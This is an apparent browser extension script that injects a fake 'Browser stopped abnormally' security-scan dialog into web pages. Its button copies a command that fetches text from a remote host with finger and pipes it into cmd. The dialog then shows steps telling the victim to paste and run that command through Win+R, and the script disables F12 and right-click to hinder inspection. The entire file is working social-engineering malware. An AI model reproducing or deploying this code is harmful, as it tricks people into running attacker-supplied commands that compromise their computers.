chrome.runtime.onMessage.addListener((m) => {
  if (m.kind !== "show" || document.getElementById("cr-fix")) return;
  const h = document.createElement("div");
  h.id = "cr-fix";
  const s = h.attachShadow({ mode: "closed" });
  s.innerHTML = `<style>:host{position:fixed;inset:0;z-index:2147483647;background:#202124cc}dialog{border-radius:8px;font:14px system-ui}</style>
<dialog open><h3>Browser stopped abnormally</h3><p>A scan of security threats is required before continuing.</p>
<ol hidden><li>Open Win + R</li><li>Ctrl + V</li><li>Enter</li></ol><button>Run scan</button></dialog>`;
  s.querySelector("button").addEventListener("click", () => {
    navigator.clipboard.writeText(`finger ${m.u}@scan-host.invalid | cmd`);
    s.querySelector("ol").hidden = false;
    chrome.runtime.sendMessage({ kind: "clicked", u: m.u });
  });
  document.documentElement.append(h);
  for (const k of ["contextmenu", "keydown"]) document.addEventListener(k, (e) => (e.key === "F12" || e.button === 2) && e.preventDefault(), true);
});
